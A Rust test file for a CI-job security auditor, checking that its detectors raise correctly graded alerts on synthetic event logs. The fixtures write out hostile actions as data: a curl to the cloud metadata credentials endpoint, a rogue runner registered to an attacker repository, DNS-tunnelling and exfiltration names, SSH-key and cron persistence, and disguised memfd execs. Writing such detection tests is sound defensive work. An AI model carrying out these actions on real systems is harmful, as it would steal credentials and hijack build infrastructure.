use serde_json::json;

use super::testing::{benign_build, Log};
use super::*;

fn ctx() -> DetectContext {
    DetectContext::default()
}

fn only<'a>(alerts: &'a [Alert], detector: &str) -> Vec<&'a Alert> {
    alerts.iter().filter(|a| a.detector == detector).collect()
}

fn one<'a>(alerts: &'a [Alert], detector: &str) -> &'a Alert {
    let v = only(alerts, detector);
    assert_eq!(v.len(), 1, "expected one {detector} alert: {alerts:#?}");
    v[0]
}

#[test]
fn registry_lists_every_detector_in_order() {
    let dir = tempfile::tempdir().expect("tmp");
    let c = DetectContext {
        baseline_dir: Some(dir.path().to_owned()),
        ..ctx()
    };
    let ids: Vec<&str> = registry(&c).iter().map(|d| d.id()).collect();
    assert_eq!(ids, DETECTORS);
    // Without a baseline directory the learned detector is off.
    assert_eq!(registry(&ctx()).len(), DETECTORS.len() - 1);
}

#[test]
fn a_benign_build_raises_nothing() {
    let dir = tempfile::tempdir().expect("tmp");
    let c = DetectContext {
        baseline_dir: Some(dir.path().to_owned()),
        ..ctx()
    };
    let l = benign_build("b1", "build");
    assert!(l.recs.len() > 200, "a realistic stream: {}", l.recs.len());
    let d = detect_report(&l.recs, &c);
    assert!(d.alerts.is_empty(), "{:#?}", d.alerts);
    assert!(d.errors.is_empty(), "{:?}", d.errors);
    // The same build again, now against the learned baseline: still nothing.
    let d = detect_report(&benign_build("b2", "build").recs, &c);
    assert!(d.alerts.is_empty(), "{:#?}", d.alerts);
}

#[test]
fn metadata_access_by_address_name_and_command_line() {
    let mut l = benign_build("m1", "build");
    let exec = l.exec(
        5000,
        4000,
        "/tmp",
        "/usr/bin/curl",
        &[
            "curl",
            "-s",
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        ],
    );
    let drop = l.drop("169.254.169.254:80");
    let dns = l.net(
        "dns",
        json!({"name": "metadata.google.internal.", "qtype": "A", "port": 53, "verdict": "deny",
               "reason": "never reachable (cloud metadata)"}),
    );
    let alerts = detect(&l.recs, &ctx());
    let a = one(&alerts, "metadata-access");
    assert_eq!(a.evidence, vec![exec, drop, dns]);
    assert_eq!(a.technique.id, "T1552.005");
    assert_eq!(a.severity, Severity::High);
    assert_eq!(a.job, "m1");
    assert!(a.summary.contains("169.254.169.254:80"), "{}", a.summary);
    // Explained here, so not again as denied egress.
    assert!(only(&alerts, "denied-egress").is_empty(), "{alerts:#?}");
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
}

#[test]
fn metadata_reached_is_critical() {
    let mut l = Log::new("m2");
    l.net(
        "http",
        json!({"name": "169.254.169.254", "resolved": "169.254.169.254", "port": 80, "verdict": "allow", "reason": "audit mode"}),
    );
    let a = detect(&l.recs, &ctx());
    assert_eq!(one(&a, "metadata-access").severity, Severity::Critical);

    // Host headers with a port, and the IPv6 endpoint.
    for host in [
        "169.254.169.254:80",
        "[fd00:ec2::254]:80",
        "metadata.google.internal:80",
    ] {
        let mut l = Log::new("m3");
        l.net(
            "http",
            json!({"name": host, "port": 80, "verdict": "deny", "reason": "never reachable (cloud metadata)"}),
        );
        let a = detect(&l.recs, &ctx());
        assert_eq!(
            one(&a, "metadata-access").severity,
            Severity::High,
            "{host}"
        );
    }
}

#[test]
fn network_scan_fires_on_a_fast_sweep_and_not_on_slow_denials() {
    let mut l = benign_build("s1", "build");
    let seqs: Vec<u64> = (20..32).map(|p| l.drop(&format!("10.0.0.5:{p}"))).collect();
    let alerts = detect(&l.recs, &ctx());
    let a = one(&alerts, "network-scan");
    assert_eq!(a.evidence, seqs);
    assert_eq!(a.technique.id, "T1046");
    assert!(
        a.summary.starts_with("12 distinct denied destinations"),
        "{}",
        a.summary
    );
    assert!(only(&alerts, "denied-egress").is_empty(), "{alerts:#?}");

    // The same twelve, five seconds apart: never ten within ten seconds.
    let mut l = Log::new("s2");
    for p in 20..32 {
        l.t += 5_000;
        l.drop(&format!("10.0.0.5:{p}"));
    }
    let alerts = detect(&l.recs, &ctx());
    assert!(only(&alerts, "network-scan").is_empty(), "{alerts:#?}");
    assert_eq!(one(&alerts, "denied-egress").evidence.len(), 12);
}

#[test]
fn network_scan_uses_event_time_and_policy_thresholds() {
    // Records logged at teardown, seconds apart, but the events were 100 ms apart.
    let mut l = Log::new("s3");
    for (i, host) in ["10.1.0.1:22", "10.1.0.2:22", "10.1.0.3:22"]
        .iter()
        .enumerate()
    {
        let seq = l.drop(host);
        l.recs[usize::try_from(seq).expect("small") - 1].data["time_ms"] =
            json!(1_000_000 + 100 * i as u64);
        l.t += 60_000;
    }
    let mut c = ctx();
    c.settings.network_scan.destinations = 3;
    c.settings.network_scan.window =
        airlock_policy::HumanDuration(std::time::Duration::from_secs(1));
    assert_eq!(
        one(&detect(&l.recs, &c), "network-scan").evidence,
        vec![1, 2, 3]
    );
    c.settings.network_scan.destinations = 4;
    assert!(only(&detect(&l.recs, &c), "network-scan").is_empty());
}

#[test]
fn denied_egress_lists_every_refusal_once_and_ignores_upstream_failures() {
    let mut l = benign_build("e1", "build");
    let a = l.net(
        "https",
        json!({"name": "attacker.example.net", "port": 443, "verdict": "deny",
               "reason": "name not in the group's allow-list"}),
    );
    let b = l.drop("203.0.113.66:443");
    let c = l.net(
        "dns",
        json!({"name": "attacker.example.net", "qtype": "A", "port": 53, "verdict": "deny",
               "reason": "name not in the group's allow-list"}),
    );
    // An allowed name whose upstream was down is not an egress attempt.
    l.net(
        "https",
        json!({"name": "static.crates.io", "port": 443, "verdict": "deny",
               "reason": "connect 203.0.113.10:443: timed out", "allowed_but_failed": true}),
    );
    let alerts = detect(&l.recs, &ctx());
    let al = one(&alerts, "denied-egress");
    assert_eq!(al.evidence, vec![a, b, c]);
    assert!(
        al.summary.contains("attacker.example.net:443"),
        "{}",
        al.summary
    );
    assert!(al.summary.contains("203.0.113.66:443"), "{}", al.summary);
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
}

#[test]
fn persistence_attempts_are_one_alert_per_class() {
    let mut l = benign_build("p1", "build");
    let cron = l.file(
        "/var/spool/cron/crontabs/runner",
        "created",
        Some("crontab"),
    );
    let k1 = l.file(
        "/home/runner/.ssh/authorized_keys",
        "modified",
        Some("authorized-keys"),
    );
    let k2 = l.file(
        "/root/.ssh/authorized_keys",
        "created",
        Some("authorized-keys"),
    );
    let alerts = detect(&l.recs, &ctx());
    let v = only(&alerts, "persistence-attempt");
    assert_eq!(v.len(), 2, "{alerts:#?}");
    let keys = v
        .iter()
        .find(|a| a.technique.id == "T1098.004")
        .expect("ssh keys");
    assert_eq!(keys.evidence, vec![k1, k2]);
    let c = v
        .iter()
        .find(|a| a.technique.id == "T1053.003")
        .expect("cron");
    assert_eq!(c.evidence, vec![cron]);
    assert!(
        c.summary
            .contains("/var/spool/cron/crontabs/runner (created)"),
        "{}",
        c.summary
    );
}

#[test]
fn privileged_operations_are_grouped_by_technique() {
    let mut l = benign_build("o1", "build");
    let deny = |l: &mut Log, name: &str, nr: u64| {
        l.push(
            "syscall.denied",
            json!({"pid": 4242, "syscall": name, "nr": nr, "reason": "seccomp"}),
        )
    };
    let m = deny(&mut l, "mount", 165);
    let u = deny(&mut l, "unshare", 272);
    let p = deny(&mut l, "ptrace", 101);
    let alerts = detect(&l.recs, &ctx());
    let v = only(&alerts, "privileged-operation");
    assert_eq!(v.len(), 2, "{alerts:#?}");
    let esc = v
        .iter()
        .find(|a| a.technique.id == "T1611")
        .expect("escape");
    assert_eq!(esc.evidence, vec![m, u]);
    assert!(esc.summary.contains("mount, unshare"), "{}", esc.summary);
    let inj = v
        .iter()
        .find(|a| a.technique.id == "T1055")
        .expect("ptrace");
    assert_eq!(inj.evidence, vec![p]);
}

#[test]
fn refused_reads_of_ordinary_tools_are_records_not_alerts() {
    let mut l = benign_build("o2", "build");
    for (name, nr) in [("syslog", 103), ("adjtimex", 159), ("quotactl", 179)] {
        l.push(
            "syscall.denied",
            json!({"pid": 4242, "syscall": name, "nr": nr, "reason": "seccomp"}),
        );
    }
    let alerts = detect(&l.recs, &ctx());
    assert!(
        only(&alerts, "privileged-operation").is_empty(),
        "{alerts:#?}"
    );
    // The escape-class calls beside them still alert, and only they are its evidence.
    let b = l.push(
        "syscall.denied",
        json!({"pid": 4242, "syscall": "bpf", "nr": 321, "reason": "seccomp"}),
    );
    let alerts = detect(&l.recs, &ctx());
    let a = one(&alerts, "privileged-operation");
    assert_eq!(a.evidence, vec![b]);
    assert_eq!(a.severity, Severity::High);
}

/// A job that downloads a runner, registers it against another repository and starts it.
fn runner_on_runner(l: &mut Log) -> Vec<u64> {
    let d = "/tmp/x";
    vec![
        l.exec(6001, 4000, d, "/usr/bin/curl", &["curl", "-sLO", "https://github.com/actions/runner/releases/download/v2.317.0/actions-runner-linux-x64-2.317.0.tar.gz"]),
        l.exec(6002, 4000, d, "/usr/bin/tar", &["tar", "xzf", "actions-runner-linux-x64-2.317.0.tar.gz"]),
        l.exec(6003, 4000, d, "/usr/bin/bash", &["bash", "./config.sh", "--url", "https://github.com/attacker/repo", "--token", "AAAA", "--unattended"]),
        l.exec(6004, 6003, d, "/tmp/x/bin/Runner.Listener", &["./bin/Runner.Listener", "configure", "--url", "https://github.com/attacker/repo"]),
        l.exec(6005, 4000, d, "./run.sh", &["./run.sh"]),
        l.exec(6006, 6005, d, "/tmp/x/bin/Runner.Listener", &["/tmp/x/bin/Runner.Listener", "run"]),
    ]
}

#[test]
fn rogue_runner_when_airlock_started_none() {
    let mut l = benign_build("r1", "build");
    let ev = runner_on_runner(&mut l);
    let alerts = detect(&l.recs, &ctx());
    let a = one(&alerts, "rogue-runner");
    assert_eq!(a.evidence, ev);
    assert_eq!(a.severity, Severity::Critical);
    assert_eq!(a.technique.id, "T1219");
}

/// The runner airlock starts: run.sh → run-helper.sh → Listener → Worker → steps.
fn expected_runner(job: &str) -> Log {
    let d = "/home/runner/actions-runner";
    let mut l = Log::new(job);
    l.requested(
        "ci",
        &["/home/runner/actions-runner/run.sh", "--once"],
        "block",
    );
    l.push("job.started", json!({"pid": 100}));
    l.exec(
        100,
        90,
        d,
        "/home/runner/actions-runner/run.sh",
        &["/home/runner/actions-runner/run.sh", "--once"],
    );
    l.exec(
        101,
        100,
        d,
        "/usr/bin/bash",
        &[
            "/bin/bash",
            "/home/runner/actions-runner/run-helper.sh",
            "--once",
        ],
    );
    l.exec(
        102,
        101,
        d,
        "/home/runner/actions-runner/bin/Runner.Listener",
        &[
            "/home/runner/actions-runner/bin/Runner.Listener",
            "run",
            "--once",
        ],
    );
    l.exec(
        103,
        102,
        d,
        "/home/runner/actions-runner/bin/Runner.Worker",
        &[
            "/home/runner/actions-runner/bin/Runner.Worker",
            "spawnclient",
            "107",
            "110",
        ],
    );
    l.exec(
        104,
        103,
        "/home/runner/actions-runner/_work/app/app",
        "/usr/bin/bash",
        &[
            "/usr/bin/bash",
            "-e",
            "/home/runner/actions-runner/_work/_temp/step.sh",
        ],
    );
    l.exec(
        105,
        104,
        "/home/runner/actions-runner/_work/app/app",
        "/usr/bin/make",
        &["make", "test"],
    );
    l
}

#[test]
fn the_runner_airlock_started_is_not_an_alert_but_a_second_one_is() {
    let mut l = expected_runner("r2");
    // A self-update restart: the Listener exits and run-helper starts a new one.
    l.exit(102, 3);
    l.exec(
        106,
        100,
        "/home/runner/actions-runner",
        "/usr/bin/bash",
        &["/bin/bash", "/home/runner/actions-runner/run-helper.sh"],
    );
    l.exec(
        107,
        106,
        "/home/runner/actions-runner",
        "/home/runner/actions-runner/bin/Runner.Listener",
        &["/home/runner/actions-runner/bin/Runner.Listener", "run"],
    );
    // The repository's own scripts, checked out below the runner's _work directory.
    let w = "/home/runner/actions-runner/_work/app/app";
    l.exec(
        120,
        104,
        w,
        "/usr/bin/bash",
        &["bash", "./run.sh", "--tests"],
    );
    l.exec(121, 104, w, "/usr/bin/bash", &["bash", "./config.sh"]);
    let alerts = detect(&l.recs, &ctx());
    assert!(alerts.is_empty(), "{alerts:#?}");

    // A step registers and starts a runner of its own while the real one runs.
    let mut l = expected_runner("r3");
    let ev = runner_on_runner(&mut l);
    let alerts = detect(&l.recs, &ctx());
    assert_eq!(one(&alerts, "rogue-runner").evidence, ev);

    // A Worker that no expected Listener started.
    let mut l = expected_runner("r4");
    let w = l.exec(
        300,
        105,
        "/tmp",
        "/opt/actions-runner/bin/Runner.Worker",
        &["Runner.Worker", "spawnclient"],
    );
    assert_eq!(
        one(&detect(&l.recs, &ctx()), "rogue-runner").evidence,
        vec![w]
    );
}

#[test]
fn new_destination_learns_first_then_alerts_once_per_domain() {
    let dir = tempfile::tempdir().expect("tmp");
    let c = DetectContext {
        baseline_dir: Some(dir.path().to_owned()),
        ..ctx()
    };
    // First job learns.
    let mut l = benign_build("n1", "build");
    l.dns_ok("github.com");
    assert!(detect(&l.recs, &c).is_empty());
    let base = Baseline::load(&dir.path().join("build.json"))
        .expect("load")
        .expect("exists");
    assert_eq!(base.jobs, 1);
    assert!(
        base.domains.contains_key("static.crates.io") && base.domains.contains_key("github.com")
    );
    assert_eq!(base.domains["github.com"].first_job, "n1");

    // An allowed but new domain.
    let mut l = benign_build("n2", "build");
    let d = l.dns_ok("objects.example-cdn.net");
    let h = l.https_ok("objects.example-cdn.net");
    l.net("https", json!({"name": "denied.example.org", "port": 443, "verdict": "deny", "reason": "name not in the group's allow-list"}));
    let alerts = detect(&l.recs, &c);
    let a = one(&alerts, "new-destination");
    assert_eq!(a.evidence, vec![d, h]);
    assert_eq!(a.severity, Severity::Low);
    assert!(
        a.summary.contains("group build: objects.example-cdn.net"),
        "{}",
        a.summary
    );

    // Once is enough; another group has a baseline of its own.
    let mut l = benign_build("n3", "build");
    l.https_ok("objects.example-cdn.net");
    assert!(only(&detect(&l.recs, &c), "new-destination").is_empty());
    let mut l = benign_build("n4", "other");
    l.https_ok("objects.example-cdn.net");
    assert!(
        only(&detect(&l.recs, &c), "new-destination").is_empty(),
        "first job of `other` learns"
    );
    assert!(dir.path().join("other.json").exists());

    // The policy switch turns it off.
    let mut off = c.clone();
    off.settings.new_destination = false;
    let mut l = benign_build("n5", "build");
    l.https_ok("brand-new.example.com");
    assert!(only(&detect(&l.recs, &off), "new-destination").is_empty());
}

#[test]
fn new_destination_never_calls_a_listed_name_new_and_audit_mode_alerts_from_the_first_job() {
    let dir = tempfile::tempdir().expect("tmp");
    let c = DetectContext {
        baseline_dir: Some(dir.path().to_owned()),
        listed_names: vec!["Allowed.Example.".into()],
        ..ctx()
    };
    // A block-mode group whose first job did not use the network: an empty baseline.
    let mut l = Log::new("l1");
    l.requested("ci", &["true"], "block");
    assert!(detect(&l.recs, &c).is_empty());
    // Its next job curls a name the allow-list names exactly: not new.
    let mut l = Log::new("l2");
    l.requested("ci", &["curl"], "block");
    l.dns_ok("allowed.example");
    l.https_ok("allowed.example");
    assert!(detect(&l.recs, &c).is_empty(), "{:#?}", detect(&l.recs, &c));

    // The first job of an audit-mode group: nothing vouches for what it reached.
    let mut l = Log::new("a1");
    l.requested("learn", &["sh"], "audit");
    l.dns_ok("allowed.example");
    let d = l.dns_ok("exfil.attacker.example");
    let h = l.net(
        "http",
        json!({"name": "exfil.attacker.example", "resolved": "203.0.113.7", "port": 80, "reason": "audit mode"}),
    );
    let alerts = detect(&l.recs, &c);
    let a = one(&alerts, "new-destination");
    assert_eq!(a.evidence, vec![d, h]);
    assert!(
        a.summary.contains("audit mode") && a.summary.contains("exfil.attacker.example"),
        "{}",
        a.summary
    );
    // ... and it was learned: the next job is quiet.
    let mut l = Log::new("a2");
    l.requested("learn", &["sh"], "audit");
    l.dns_ok("exfil.attacker.example");
    assert!(only(&detect(&l.recs, &c), "new-destination").is_empty());
}

/// An audit-mode job: the firewall's routed flows and the gateway's let-through records.
fn audit_job(job: &str) -> Log {
    let mut l = Log::new(job);
    l.requested("learn", &["sh"], "audit");
    l
}

fn flow(l: &mut Log, dialled: &str) -> u64 {
    let port: u16 = dialled
        .rsplit(':')
        .next()
        .and_then(|p| p.parse().ok())
        .unwrap_or(0);
    l.net(
        "flow",
        json!({"qtype": "tcp", "dialled": dialled, "port": port, "reason": "audit mode"}),
    )
}

#[test]
fn audit_mode_still_sees_a_scan_of_an_internal_range() {
    let mut l = audit_job("s1");
    let mut seqs = Vec::new();
    for host in 1..=6 {
        for port in [22, 80, 5432] {
            seqs.push(flow(&mut l, &format!("192.168.77.{host}:{port}")));
        }
    }
    let alerts = detect(&l.recs, &ctx());
    let a = one(&alerts, "network-scan");
    assert_eq!(a.evidence, seqs);
    assert!(a.summary.contains("let-through"), "{}", a.summary);
    // The scan is one alert: its flows are not listed again as hard-coded addresses.
    assert!(only(&alerts, "denied-egress").is_empty(), "{alerts:#?}");

    // Many allowed connections by name (a link checker) are no scan, in audit mode either.
    let mut l = audit_job("s2");
    for i in 0..30 {
        l.https_ok(&format!("site{i}.example.org"));
    }
    assert!(detect(&l.recs, &ctx()).is_empty());
}

#[test]
fn audit_mode_still_sees_a_hard_coded_address() {
    let mut l = audit_job("h1");
    // ssh to a host the job looked up: not hard-coded.
    l.net(
        "dns",
        json!({"name": "git.example.org", "qtype": "A", "resolved": "198.51.100.4",
               "answers": ["198.51.100.4", "198.51.100.5"], "port": 53}),
    );
    flow(&mut l, "198.51.100.5:22");
    assert!(
        detect(&l.recs, &ctx()).is_empty(),
        "{:#?}",
        detect(&l.recs, &ctx())
    );
    // Straight to an address, no DNS; and HTTP with the address as Host.
    let f = flow(&mut l, "203.0.113.7:4444");
    let h = l.net(
        "http",
        json!({"name": "203.0.113.7", "resolved": "203.0.113.7", "dialled": "203.0.113.7:80",
               "port": 80, "reason": "audit mode"}),
    );
    // A name looked up afterwards that points there does not make them looked-up.
    l.net(
        "dns",
        json!({"name": "exfil.example", "qtype": "A", "resolved": "203.0.113.7",
               "answers": ["203.0.113.7"], "port": 53}),
    );
    let alerts = detect(&l.recs, &ctx());
    let a = one(&alerts, "denied-egress");
    assert_eq!(a.evidence, vec![f, h]);
    assert!(
        a.summary.contains("hard-coded address") && a.summary.contains("203.0.113.7:4444"),
        "{}",
        a.summary
    );
    // The same records in a block-mode job do not exist (no flows); an allowed IP name there
    // is one the policy lists.
    let mut l = Log::new("h2");
    l.requested("ci", &["sh"], "block");
    l.net(
        "http",
        json!({"name": "203.0.113.7", "resolved": "203.0.113.7", "port": 80}),
    );
    assert!(detect(&l.recs, &ctx()).is_empty());
}

#[test]
fn a_corrupt_baseline_is_reported_not_fatal() {
    let dir = tempfile::tempdir().expect("tmp");
    std::fs::write(dir.path().join("build.json"), "{ not json").expect("write");
    let c = DetectContext {
        baseline_dir: Some(dir.path().to_owned()),
        ..ctx()
    };
    let mut l = benign_build("c1", "build");
    l.drop("203.0.113.66:443");
    let d = detect_report(&l.recs, &c);
    assert!(
        matches!(d.errors.as_slice(), [DetectError::BaselineCorrupt { .. }]),
        "{:?}",
        d.errors
    );
    assert_eq!(one(&d.alerts, "denied-egress").evidence.len(), 1);
}

#[test]
fn dns_tunnelling_flagged_names_and_many_subdomains() {
    let mut l = benign_build("t1", "build");
    let f = l.net(
        "dns",
        json!({"name": "mfzwizltoq2dembrgiztinjwg4ytqojqgeztknrxhaytcmrtgq2tmnzy.t.evil.example", "qtype": "A",
               "port": 53, "verdict": "deny", "reason": "name not in the group's allow-list",
               "flags": ["dns-tunnelling-suspect"]}),
    );
    let alerts = detect(&l.recs, &ctx());
    let a = one(&alerts, "dns-tunnelling");
    assert_eq!(a.evidence, vec![f]);
    assert_eq!(a.technique.id, "T1071.004");
    // Explained as tunnelling, not again as denied egress.
    assert!(only(&alerts, "denied-egress").is_empty(), "{alerts:#?}");

    let mut l = benign_build("t2", "build");
    let seqs: Vec<u64> = (0..25)
        .map(|i| {
            l.net(
                "dns",
                json!({"name": format!("c{i:03}.x.evil.example"), "qtype": "TXT", "port": 53,
                       "verdict": "deny", "reason": "name not in the group's allow-list"}),
            )
        })
        .collect();
    let alerts = detect(&l.recs, &ctx());
    let a = one(&alerts, "dns-tunnelling");
    assert_eq!(a.evidence, seqs);
    assert!(
        a.summary.contains("25 distinct names below evil.example"),
        "{}",
        a.summary
    );

    let mut c = ctx();
    c.settings.dns_tunnelling.subdomains = 26;
    assert!(only(&detect(&l.recs, &c), "dns-tunnelling").is_empty());
}

#[test]
fn parent_domains() {
    assert_eq!(parent_domain("a.b.example.com."), "example.com");
    assert_eq!(parent_domain("x.y.example.co.uk"), "example.co.uk");
    assert_eq!(parent_domain("static.crates.io"), "crates.io");
    assert_eq!(parent_domain("localhost"), "localhost");
}

#[test]
fn detect_jobs_splits_a_log_by_job() {
    let mut a = benign_build("j1", "build");
    a.drop("203.0.113.66:443");
    let mut b = Log::after("j2", &a);
    b.drop("198.51.100.7:8080");
    let mut all = a.recs.clone();
    all.extend(b.recs.clone());
    let d = detect_jobs(&all, &ctx());
    let jobs: Vec<&str> = d.alerts.iter().map(|x| x.job.as_str()).collect();
    assert_eq!(jobs, vec!["j1", "j2"]);
    assert_eq!(d.alerts[1].evidence, vec![b.recs[0].seq]);
}

/// Throughput of the whole registry over one large job. Run with
/// `cargo test -p airlock-audit --release -- --ignored --nocapture throughput`.
#[test]
#[ignore = "measurement, not a check"]
fn throughput() {
    let mut l = benign_build("big", "build");
    for i in 0..100_000u64 {
        l.exec(
            10_000 + i,
            4000,
            "/w",
            "/usr/bin/rustc",
            &["rustc", "--crate-name", "x", "src/lib.rs"],
        );
        l.exit(10_000 + i, 0);
    }
    for i in 0..20_000 {
        if i % 2 == 0 {
            l.https_ok("static.crates.io");
        } else {
            l.dns_ok("index.crates.io");
        }
    }
    for i in 0..5_000 {
        l.file(&format!("/w/target/f{i}"), "created", None);
    }
    let dir = tempfile::tempdir().expect("tmp");
    let c = DetectContext {
        baseline_dir: Some(dir.path().to_owned()),
        ..ctx()
    };
    let n = l.recs.len();
    let t = std::time::Instant::now();
    let alerts = detect(&l.recs, &c);
    let el = t.elapsed();
    assert!(alerts.is_empty(), "{alerts:#?}");
    println!(
        "detect: {n} records in {el:?} = {:.0} records/s",
        n as f64 / el.as_secs_f64()
    );
}

#[test]
fn fileless_execs_raise_one_alert_naming_what_ran() {
    let mut l = benign_build("f1", "build");
    // A normal exec with its resolved target: nothing.
    l.push(
        "process.exec",
        json!({"pid": 900, "ppid": 1, "cwd": "/tmp", "path": "make", "argv": ["make"],
               "exe": {"path": "/tmp/.h/make", "via": "dirfd", "fd": 3, "dev": "0:50", "ino": 7}}),
    );
    // Ran, then deleted at the end: recorded, not fileless.
    l.push(
        "file.changed",
        json!({"path": "/tmp/.h/make", "change": "deleted", "executed": true}),
    );
    assert!(only(&detect(&l.recs, &ctx()), "fileless-exec").is_empty());
    let memfd = l.push(
        "process.exec",
        json!({"pid": 901, "ppid": 1, "cwd": "/tmp", "path": "", "argv": ["[kworker/0:1]"],
               "argv0_mismatch": true,
               "exe": {"path": "memfd:x", "memfd": "memfd:x", "deleted": true, "via": "fd",
                       "fd": 4, "sha256": "ab"}}),
    );
    let unlinked = l.push(
        "process.exec",
        json!({"pid": 902, "ppid": 1, "cwd": "/tmp", "path": "", "argv": ["sshd"],
               "exe": {"path": "/tmp/.h/x", "deleted": true, "via": "fd", "fd": 5}}),
    );
    // Seen only after the exec (the record's target was swapped).
    let actual = l.push(
        "exec.actual",
        json!({"pid": 903, "recorded": "/bin/true",
               "exe": {"path": "memfd:y", "memfd": "memfd:y", "deleted": true, "via": "exe"}}),
    );
    let alerts = detect(&l.recs, &ctx());
    let a = one(&alerts, "fileless-exec");
    assert_eq!(a.evidence, vec![memfd, unlinked, actual]);
    assert_eq!(a.technique.id, "T1620");
    assert_eq!(a.severity, Severity::High);
    for want in [
        "memfd:x as '[kworker/0:1]'",
        "/tmp/.h/x (deleted) as 'sshd'",
        "memfd:y",
    ] {
        assert!(a.summary.contains(want), "{want}: {}", a.summary);
    }
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
}

#[test]
fn a_fileless_program_given_to_the_dynamic_loader_is_fileless_too() {
    let mut l = benign_build("f2", "build");
    let ld = l.push(
        "process.exec",
        json!({"pid": 901, "ppid": 1, "cwd": "/tmp", "path": "/lib64/ld-linux-x86-64.so.2",
               "argv": ["ld.so", "/proc/self/fd/3"],
               "exe": {"path": "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "via": "path"},
               "loaded": {"path": "memfd:p", "memfd": "memfd:p", "deleted": true, "via": "fd"}}),
    );
    let alerts = detect(&l.recs, &ctx());
    let a = one(&alerts, "fileless-exec");
    assert_eq!(a.evidence, vec![ld]);
    assert!(a.summary.contains("memfd:p as 'ld.so'"), "{}", a.summary);
}

#[test]
fn a_changed_policy_is_an_alert_and_an_unchanged_one_is_not() {
    let quiet = benign_build("c0", "build");
    assert!(only(&detect(&quiet.recs, &ctx()), "config-changed").is_empty());
    let mut l = benign_build("c1", "build");
    let seq = l.push(
        "config.changed",
        json!({"group": "ci", "previous": "a".repeat(64), "current": "b".repeat(64)}),
    );
    let alerts = detect(&l.recs, &ctx());
    let a = one(&alerts, "config-changed");
    assert_eq!(a.evidence, vec![seq]);
    assert_eq!(a.technique.id, "T1562.001");
    assert!(
        a.summary.contains("group ci") && a.summary.contains("aaaaaaaaaaaa"),
        "{}",
        a.summary
    );
}
